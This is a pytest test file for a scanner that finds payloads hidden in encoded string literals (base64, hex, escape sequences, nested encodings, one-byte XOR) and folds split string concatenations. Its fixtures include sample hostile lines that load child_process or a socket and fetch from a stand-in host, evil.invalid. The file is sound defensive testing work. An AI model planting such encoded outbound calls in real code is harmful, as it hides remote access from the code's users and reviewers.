"""What code hides in its literals."""

from __future__ import annotations

import base64
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from scanner.codescan.literals import fold, hidden

SECRET = "require('child_process'); fetch('https://evil.invalid/x')"


def encode(how: str, data: bytes) -> str:
    match how:
        case "base64":
            return base64.b64encode(data).decode()
        case "urlsafe":
            return base64.urlsafe_b64encode(data).decode().rstrip("=")
        case "hex":
            return data.hex()
        case "escapes":
            return "".join(f"\\x{byte:02x}" for byte in data)
        case "unicode":
            return "".join(f"\\u00{byte:02x}" for byte in data)
        case "codes":
            return f"[{', '.join(map(str, data))}]"
        case _:
            return f"({','.join(hex(byte) for byte in data)})"


HOW = ["base64", "urlsafe", "hex", "escapes", "unicode", "codes", "hexcodes"]


@pytest.mark.parametrize("how", HOW)
def test_every_encoding_is_read(how: str) -> None:
    (found,) = hidden(f"// innocent\nconst a = 1;\nrun('{encode(how, SECRET.encode())}');\n")
    assert found.line == 3
    assert found.says == SECRET
    assert "child_process" in found.telling
    assert "https://" in found.telling


@pytest.mark.parametrize("outer", ["base64", "hex"])
@pytest.mark.parametrize("inner", ["base64", "hex", "codes"])
def test_nested_twice(outer: str, inner: str) -> None:
    text = encode(outer, f'eval("{encode(inner, SECRET.encode())}") // and more text'.encode())
    assert [one.telling for one in hidden(f"x = '{text}'")]


@pytest.mark.parametrize("key", [1, 0x17, 0x5A, 0x80, 0xFF])
def test_one_byte_xor(key: int) -> None:
    data = bytes(byte ^ key for byte in b"import socket and connect to the host at https://evil.invalid/e")
    (found,) = hidden(f"t = bytes.fromhex('{data.hex()}')")
    assert found.encoding == f"hex > xor {key:#04x}" or "https://" in found.says


@pytest.mark.parametrize(
    "text",
    [
        "integrity = 'sha512-7JMCUFDeqrcRYLLhgJJY1ECZtKqXGVHXGvXFpLQ2PGYVg8GDvMNJWzCBgKpdxhLNu2xlvoVhkHcHiSqtI5gCaA=='",
        "const sha = '5bb67e88846096f1f8d42a0f0350c9c46260591567612ff9af46f98d1b7571cd';",
        "const table = [0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10];",
        "import { aVeryLongIdentifierNameThatLooksLikeBase64 } from './module';",
        "data = 'aGVsbG8gd29ybGQsIHRoaXMgaXMgZmluZQ=='",
        "",
    ],
)
def test_honest_literals_are_spared(text: str) -> None:
    assert list(hidden(text)) == []


def test_concatenation_is_folded() -> None:
    assert fold("require('child' + '_' + 'process')") == "require('child_process')"
    assert fold('"a" + b + "c"') == '"a" + b + "c"'


@given(st.text(max_size=300))
def test_any_text_can_be_read(text: str) -> None:
    list(hidden(text))
    fold(text)


@pytest.mark.parametrize("piece", ["[1,", "'a'+", "\\x41", "QUJD", "41", "[", "A" * 50 + "="])
def test_hostile_text_costs_little(piece: str) -> None:
    text = piece * (400_000 // len(piece))
    began = time.process_time()
    list(hidden(text))
    fold(text)
    # Generous: it guards against minutes, not against milliseconds.
    assert time.process_time() - began < 20
